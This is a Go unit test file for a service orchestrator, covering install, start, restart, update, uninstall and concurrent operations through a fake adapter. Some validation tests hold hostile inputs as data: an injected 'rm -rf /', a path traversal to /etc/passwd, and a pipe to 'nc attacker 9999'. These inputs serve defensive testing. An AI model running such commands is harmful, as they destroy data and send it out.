package svchost

import (
	"context"
	"errors"
	"os"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// fakeAdapter is an in-memory HostAdapter with injectable failures and
// call recording
type fakeAdapter struct {
	mu       sync.Mutex
	statuses map[string]ServiceStatus
	calls    []string

	installErr   error
	startErr     error
	stopErr      error
	uninstallErr error

	// registered leaves the failed install visible to the OS, so the
	// orchestrator cannot roll it back
	registered bool

	installDelay time.Duration
	startDelay   time.Duration
}

func newFakeAdapter() *fakeAdapter {
	return &fakeAdapter{statuses: make(map[string]ServiceStatus)}
}

func (a *fakeAdapter) record(call string) {
	a.mu.Lock()
	a.calls = append(a.calls, call)
	a.mu.Unlock()
}

func (a *fakeAdapter) callCount(call string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	n := 0
	for _, c := range a.calls {
		if c == call {
			n++
		}
	}
	return n
}

func (a *fakeAdapter) setStatus(id string, status ServiceStatus) {
	a.mu.Lock()
	a.statuses[id] = status
	a.mu.Unlock()
}

func (a *fakeAdapter) QueryStatus(_ context.Context, id string) ServiceStatus {
	a.mu.Lock()
	defer a.mu.Unlock()
	status, ok := a.statuses[id]
	if !ok {
		return StatusNotInstalled
	}
	return status
}

func (a *fakeAdapter) Install(_ context.Context, rec *ServiceRecord) OpResult {
	a.record("install")
	time.Sleep(a.installDelay)
	if a.installErr != nil {
		if a.registered {
			a.setStatus(rec.ID, StatusError)
		}
		return failResult(OpInstall, rec.ID, a.installErr, "", 0)
	}
	a.setStatus(rec.ID, StatusStopped)
	return okResult(OpInstall, rec.ID, "installed", 0)
}

func (a *fakeAdapter) Uninstall(_ context.Context, rec *ServiceRecord) OpResult {
	a.record("uninstall")
	if a.uninstallErr != nil {
		return failResult(OpUninstall, rec.ID, a.uninstallErr, "", 0)
	}
	a.mu.Lock()
	delete(a.statuses, rec.ID)
	a.mu.Unlock()
	return okResult(OpUninstall, rec.ID, "uninstalled", 0)
}

func (a *fakeAdapter) WriteConfig(_ context.Context, rec *ServiceRecord) OpResult {
	a.record("writeconfig")
	return okResult(OpUpdate, rec.ID, "written", 0)
}

func (a *fakeAdapter) Start(_ context.Context, id string) OpResult {
	a.record("start")
	time.Sleep(a.startDelay)
	if a.startErr != nil {
		return failResult(OpStart, id, a.startErr, "", 0)
	}
	a.setStatus(id, StatusRunning)
	return okResult(OpStart, id, "started", 0)
}

func (a *fakeAdapter) Stop(_ context.Context, id string) OpResult {
	a.record("stop")
	if a.stopErr != nil {
		return failResult(OpStop, id, a.stopErr, "", 0)
	}
	a.setStatus(id, StatusStopped)
	return okResult(OpStop, id, "stopped", 0)
}

func createReq(id string) CreateRequest {
	return CreateRequest{
		ID:             id,
		DisplayName:    "Test Service",
		ExecutablePath: "/opt/worker/worker",
		StartMode:      StartModeManual,
		StopTimeout:    15 * time.Second,
	}
}

func newTestOrchestrator(t *testing.T, adapter HostAdapter) (*Orchestrator, *Store) {
	t.Helper()
	store, err := NewStore(nil)
	require.NoError(t, err)
	return NewOrchestrator(store, adapter), store
}

// seeds a record in the given stable status without going through Create
func seedRecord(store *Store, adapter *fakeAdapter, id string, status ServiceStatus) {
	rec := validRecord(id)
	rec.Status = status
	store.Put(rec)
	adapter.setStatus(id, status)
}

func TestOrchestratorCreate(t *testing.T) {
	ctx := context.Background()

	t.Run("success", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)

		rec, res := orch.Create(ctx, createReq("web-01"))
		require.True(t, res.OK, "create failed: %v", res.Err)
		require.NotNil(t, rec)
		assert.Equal(t, StatusStopped, rec.Status)
		assert.False(t, rec.CreatedAt.IsZero())
		assert.Equal(t, 1, adapter.callCount("install"))
		assert.Equal(t, 0, adapter.callCount("start"))

		stored, err := store.Get("web-01")
		require.NoError(t, err)
		assert.Equal(t, StatusStopped, stored.Status)
	})

	t.Run("generates id when empty", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, _ := newTestOrchestrator(t, adapter)

		req := createReq("")
		rec, res := orch.Create(ctx, req)
		require.True(t, res.OK)
		assert.NotEmpty(t, rec.ID)
	})

	t.Run("auto start", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)

		req := createReq("web-01")
		req.AutoStart = true
		rec, res := orch.Create(ctx, req)
		require.True(t, res.OK, "create failed: %v", res.Err)
		require.NotNil(t, rec)
		assert.Equal(t, 1, adapter.callCount("start"))

		stored, err := store.Get("web-01")
		require.NoError(t, err)
		assert.Equal(t, StatusRunning, stored.Status)
	})

	t.Run("rejects hostile arguments before any external call", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)

		req := createReq("web-01")
		req.Arguments = "--port 8080; rm -rf /"
		_, res := orch.Create(ctx, req)
		require.False(t, res.OK)
		assert.ErrorIs(t, res.Err, ErrValidation)
		assert.Equal(t, 0, adapter.callCount("install"))
		assert.Equal(t, 0, store.Len())
	})

	t.Run("rejects traversal paths", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, _ := newTestOrchestrator(t, adapter)

		req := createReq("web-01")
		req.ExecutablePath = "/opt/../../etc/passwd"
		_, res := orch.Create(ctx, req)
		require.False(t, res.OK)
		assert.ErrorIs(t, res.Err, ErrValidation)
		assert.Equal(t, 0, adapter.callCount("install"))
	})

	t.Run("duplicate id conflicts", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, _ := newTestOrchestrator(t, adapter)

		_, res := orch.Create(ctx, createReq("web-01"))
		require.True(t, res.OK)

		_, res = orch.Create(ctx, createReq("web-01"))
		require.False(t, res.OK)
		assert.ErrorIs(t, res.Err, ErrConflict)
		assert.Equal(t, 1, adapter.callCount("install"))
	})

	t.Run("install failure before registration leaves no record", func(t *testing.T) {
		adapter := newFakeAdapter()
		adapter.installErr = errors.New("tool exploded")
		orch, store := newTestOrchestrator(t, adapter)

		_, res := orch.Create(ctx, createReq("web-01"))
		require.False(t, res.OK)
		assert.Equal(t, OpCreate, res.Op)
		assert.Equal(t, 0, store.Len())
	})

	t.Run("install failure after registration leaves error record", func(t *testing.T) {
		adapter := newFakeAdapter()
		adapter.installErr = errors.New("tool exploded late")
		adapter.registered = true
		orch, store := newTestOrchestrator(t, adapter)

		_, res := orch.Create(ctx, createReq("web-01"))
		require.False(t, res.OK)

		stored, err := store.Get("web-01")
		require.NoError(t, err)
		assert.Equal(t, StatusError, stored.Status)
	})
}

func TestOrchestratorStart(t *testing.T) {
	ctx := context.Background()

	t.Run("from stopped", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusStopped)

		res := orch.Start(ctx, "web-01")
		require.True(t, res.OK, "start failed: %v", res.Err)

		stored, _ := store.Get("web-01")
		assert.Equal(t, StatusRunning, stored.Status)
	})

	t.Run("conflict from running makes no external call", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, _ := newTestOrchestrator(t, adapter)
		seedRecord(orch.store, adapter, "web-01", StatusRunning)

		res := orch.Start(ctx, "web-01")
		require.False(t, res.OK)
		assert.ErrorIs(t, res.Err, ErrConflict)
		assert.Equal(t, 0, adapter.callCount("start"))
	})

	t.Run("unknown service", func(t *testing.T) {
		orch, _ := newTestOrchestrator(t, newFakeAdapter())

		res := orch.Start(ctx, "ghost")
		require.False(t, res.OK)
		assert.ErrorIs(t, res.Err, ErrNotFound)
	})

	t.Run("failure reverts to prior status", func(t *testing.T) {
		adapter := newFakeAdapter()
		adapter.startErr = errors.New("refused")
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusStopped)

		res := orch.Start(ctx, "web-01")
		require.False(t, res.OK)

		stored, _ := store.Get("web-01")
		assert.Equal(t, StatusStopped, stored.Status)
	})
}

func TestOrchestratorRestart(t *testing.T) {
	ctx := context.Background()

	t.Run("success", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusRunning)

		res := orch.Restart(ctx, "web-01")
		require.True(t, res.OK, "restart failed: %v", res.Err)

		stored, _ := store.Get("web-01")
		assert.Equal(t, StatusRunning, stored.Status)
		assert.Equal(t, 1, adapter.callCount("stop"))
		assert.Equal(t, 1, adapter.callCount("start"))
	})

	t.Run("stop failure keeps service running and skips start", func(t *testing.T) {
		adapter := newFakeAdapter()
		adapter.stopErr = errors.New("refused")
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusRunning)

		res := orch.Restart(ctx, "web-01")
		require.False(t, res.OK)
		assert.Equal(t, OpRestart, res.Op)
		assert.Equal(t, 0, adapter.callCount("start"))

		stored, _ := store.Get("web-01")
		assert.Equal(t, StatusRunning, stored.Status)
	})

	t.Run("start failure after stop leaves stopped", func(t *testing.T) {
		adapter := newFakeAdapter()
		adapter.startErr = errors.New("refused")
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusRunning)

		res := orch.Restart(ctx, "web-01")
		require.False(t, res.OK)

		stored, _ := store.Get("web-01")
		assert.Equal(t, StatusStopped, stored.Status)
	})

	t.Run("conflict when not running", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusStopped)

		res := orch.Restart(ctx, "web-01")
		require.False(t, res.OK)
		assert.ErrorIs(t, res.Err, ErrConflict)
	})
}

func TestOrchestratorUninstall(t *testing.T) {
	ctx := context.Background()

	t.Run("from stopped", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusStopped)

		res := orch.Uninstall(ctx, "web-01")
		require.True(t, res.OK, "uninstall failed: %v", res.Err)

		_, err := store.Get("web-01")
		assert.ErrorIs(t, err, ErrNotFound)
	})

	t.Run("from running stops first", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusRunning)

		res := orch.Uninstall(ctx, "web-01")
		require.True(t, res.OK, "uninstall failed: %v", res.Err)
		assert.Equal(t, 1, adapter.callCount("stop"))

		_, err := store.Get("web-01")
		assert.ErrorIs(t, err, ErrNotFound)
	})

	t.Run("stop failure aborts and leaves running", func(t *testing.T) {
		adapter := newFakeAdapter()
		adapter.stopErr = errors.New("refused")
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusRunning)

		res := orch.Uninstall(ctx, "web-01")
		require.False(t, res.OK)
		assert.Equal(t, 0, adapter.callCount("uninstall"))

		stored, _ := store.Get("web-01")
		assert.Equal(t, StatusRunning, stored.Status)
	})

	t.Run("uninstall failure leaves error record", func(t *testing.T) {
		adapter := newFakeAdapter()
		adapter.uninstallErr = errors.New("tool exploded")
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusStopped)

		res := orch.Uninstall(ctx, "web-01")
		require.False(t, res.OK)

		stored, err := store.Get("web-01")
		require.NoError(t, err)
		assert.Equal(t, StatusError, stored.Status)
	})

	t.Run("conflict while transitioning", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusStarting)

		res := orch.Uninstall(ctx, "web-01")
		require.False(t, res.OK)
		assert.ErrorIs(t, res.Err, ErrConflict)
	})
}

func TestOrchestratorUpdate(t *testing.T) {
	ctx := context.Background()

	updateReq := func(id string) UpdateRequest {
		return UpdateRequest{
			ID:             id,
			DisplayName:    "Renamed Service",
			ExecutablePath: "/opt/worker/worker2",
			StartMode:      StartModeAutomatic,
			StopTimeout:    30 * time.Second,
		}
	}

	t.Run("rewrites stopped service", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusStopped)

		res := orch.Update(ctx, updateReq("web-01"))
		require.True(t, res.OK, "update failed: %v", res.Err)
		assert.Equal(t, 1, adapter.callCount("writeconfig"))

		stored, _ := store.Get("web-01")
		assert.Equal(t, "Renamed Service", stored.DisplayName)
		assert.Equal(t, "/opt/worker/worker2", stored.ExecutablePath)
		assert.Equal(t, "web-01", stored.ID)
	})

	t.Run("rejected while running", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusRunning)

		res := orch.Update(ctx, updateReq("web-01"))
		require.False(t, res.OK)
		assert.ErrorIs(t, res.Err, ErrConflict)
		assert.Equal(t, 0, adapter.callCount("writeconfig"))
	})

	t.Run("invalid update leaves record untouched", func(t *testing.T) {
		adapter := newFakeAdapter()
		orch, store := newTestOrchestrator(t, adapter)
		seedRecord(store, adapter, "web-01", StatusStopped)

		req := updateReq("web-01")
		req.Arguments = "x | nc attacker 9999"
		res := orch.Update(ctx, req)
		require.False(t, res.OK)
		assert.ErrorIs(t, res.Err, ErrValidation)

		stored, _ := store.Get("web-01")
		assert.Equal(t, "Test Service", stored.DisplayName)
	})
}

func TestOrchestratorSameIDSerialized(t *testing.T) {
	adapter := newFakeAdapter()
	adapter.startDelay = 20 * time.Millisecond
	orch, store := newTestOrchestrator(t, adapter)
	seedRecord(store, adapter, "web-01", StatusStopped)

	const workers = 5
	results := make([]OpResult, workers)

	var wg sync.WaitGroup
	for i := 0; i < workers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			results[i] = orch.Start(context.Background(), "web-01")
		}(i)
	}
	wg.Wait()

	ok := 0
	for _, res := range results {
		if res.OK {
			ok++
		} else {
			assert.ErrorIs(t, res.Err, ErrConflict)
		}
	}
	assert.Equal(t, 1, ok, "exactly one concurrent start should win")
	assert.Equal(t, 1, adapter.callCount("start"))
}

func TestOrchestratorDistinctIDsConcurrent(t *testing.T) {
	adapter := newFakeAdapter()
	adapter.installDelay = 5 * time.Millisecond
	orch, store := newTestOrchestrator(t, adapter)

	const workers = 8
	var wg sync.WaitGroup
	for i := 0; i < workers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			id := string(rune('a'+i)) + "-svc"
			_, res := orch.Create(context.Background(), createReq(id))
			assert.True(t, res.OK, "create %s failed: %v", id, res.Err)
		}(i)
	}
	wg.Wait()

	assert.Equal(t, workers, store.Len())
}

// End-to-end through the real adapter, fake runner, and fake OS control
func TestOrchestratorEndToEnd(t *testing.T) {
	ctx := context.Background()

	control := NewFakeServiceControl()
	runner := &fakeRunner{}
	runner.handler = func(subcommand string) (string, string, int, error) {
		switch subcommand {
		case "install":
			control.SetStatus("web-01", StatusStopped)
		case "uninstall":
			control.Remove("web-01")
		}
		return "", "", 0, nil
	}
	adapter := newTestAdapter(t, control, runner)

	store, err := NewStore(nil)
	require.NoError(t, err)
	orch := NewOrchestrator(store, adapter)

	req := createReq("web-01")
	req.AutoStart = true
	rec, res := orch.Create(ctx, req)
	require.True(t, res.OK, "create failed: %v (%s)", res.Err, res.Detail)
	require.NotNil(t, rec)

	stored, err := store.Get("web-01")
	require.NoError(t, err)
	assert.Equal(t, StatusRunning, stored.Status)

	b := adapter.builderFor(rec)
	if _, err := os.Stat(b.ConfigPath()); err != nil {
		t.Errorf("sandbox config missing: %v", err)
	}

	res = orch.Uninstall(ctx, "web-01")
	require.True(t, res.OK, "uninstall failed: %v (%s)", res.Err, res.Detail)

	_, err = store.Get("web-01")
	assert.ErrorIs(t, err, ErrNotFound)
	if _, err := os.Stat(b.Dir()); !os.IsNotExist(err) {
		t.Error("sandbox directory still present after uninstall")
	}
	assert.Equal(t, StatusNotInstalled, adapter.QueryStatus(ctx, "web-01"))
}
